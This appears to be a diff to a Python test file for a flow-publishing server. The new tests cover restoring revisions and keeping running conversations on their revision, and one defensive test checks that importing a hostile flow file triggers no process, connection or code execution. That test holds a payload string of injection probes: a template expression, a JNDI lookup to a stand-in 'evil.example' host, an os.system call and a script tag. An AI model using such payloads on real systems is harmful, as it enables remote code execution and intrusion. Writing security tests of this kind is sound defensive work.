@@ -1,5 +1,7 @@
 """Drafts, edits, revisions, files."""
 
+import json
+import sys
 import threading
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -13,8 +15,11 @@ from flows.edit import EditError
 from server import audit, publishing, tables
 from server.errors import RefusedError
 from server.ids import new_id
+from server.inbox import Filter
+from server.parts import Parts
 from server.people import Person
 from server.publishing import ATTEMPTS
+from tests.server import house
 
 ADA = Person(id="ada", name="Ada", email="ada@luna.example", role="builder")
 
@@ -261,6 +266,8 @@ def test_the_list_says_in_what_state_each_flow_is(database: Engine, flow: str) -
         publishing.edit(database, flow, add(f"n{number}"), ADA)
     shown = card(database, flow)
     assert (shown.state, shown.revision, shown.unpublished) == ("live", 1, 3)
+    publishing.restore(database, flow, 1, ADA)
+    assert card(database, flow).unpublished == 0
 
 
 def test_the_list_tells_the_last_week(database: Engine, flow: str) -> None:
@@ -287,6 +294,58 @@ def test_who_published_imported_and_deleted_is_written_down(database: Engine, fl
     publishing.delete_flow(database, flow, ADA)
     log = [(entry.person, entry.action, entry.subject) for entry in audit.entries(database)]
     assert log == [("ada", f"flow.{act}", flow) for act in ("delete", "import", "publish", "create")]
+
+
+def test_a_running_conversation_stays_on_its_revision(parts: Parts) -> None:
+    engine = parts.engine
+    house.telegram_account(parts)
+    made = publishing.create_flow(engine, ADA, "Orders")
+    for change in (
+        {"op": "add", "node": "ask", "config": {"type": "question", "text": "Which order?"}, "at": [0, 0]},
+        {**add("old", "The old way"), "at": [300, 0]},
+        {"op": "connect", "source": "ask", "port": "answered", "target": "old"},
+    ):
+        publishing.edit(engine, made, change, ADA)
+    publishing.publish(engine, made, "", ADA)
+    house.arrive(parts, house.said("Hello", 1, address="100"))
+    house.turn(parts)
+    publishing.edit(engine, made, {"op": "set", "node": "old", "field": "text", "value": "The new way"}, ADA)
+    publishing.publish(engine, made, "", ADA)
+    publishing.delete_flow(engine, made, ADA)
+    house.arrive(parts, house.said("42", 2, address="100"))
+    house.turn(parts)
+    publishing.undelete_flow(engine, made, ADA)
+    house.arrive(parts, house.said("Hello", 3, address="200"), house.said("42", 4, address="200"))
+    house.turn(parts)
+    said: dict[int, list[str]] = {}
+    for shown in parts.inbox.conversations(Filter()).cards:
+        opened = parts.inbox.conversation(shown.id)
+        said[opened.revision] = [message.text for message in opened.messages if message.direction == "out"]
+    assert said == {1: ["Which order?", "The old way"], 2: ["Which order?", "The new way"]}
+
+
+def test_a_hostile_file_does_nothing_but_become_a_draft(database: Engine) -> None:
+    """No process, no connection, no file but the database's own, whatever the texts and ids in it pretend to be."""
+    hostile = json.loads(flows.write(flows.starter("luna")))
+    payload = "{{7*7}} ${jndi:ldap://evil.example/x} __import__('os').system('touch /tmp/owned') <script>x</script>"
+    hostile["name"] = payload[:120]
+    hostile["notes"] = {"n": {"text": payload, "at": [0, 0]}}
+    for node in hostile["nodes"].values():
+        if "text" in node:
+            node["text"] = payload
+    publishing.import_flow(database, json.dumps(hostile).encode(), ADA)  # what is imported late is imported now
+    acts: list[str] = []
+    watched = ("subprocess.Popen", "os.system", "os.exec", "socket.connect", "socket.getaddrinfo", "exec", "compile")
+    watching = True
+    sys.addaudithook(lambda event, _: acts.append(event) if watching and event in watched else None)
+    try:
+        imported = publishing.import_flow(database, json.dumps({**hostile, "id": "evil"}).encode(), ADA)
+        publishing.draft(database, imported.id)
+    finally:
+        watching = False
+    assert acts == []
+    assert publishing.draft(database, "evil").state == "draft"
+    assert publishing.draft(database, "evil").flow.notes["n"].text == payload
 
 
 def card(database: Engine, flow: str) -> publishing.FlowCard:
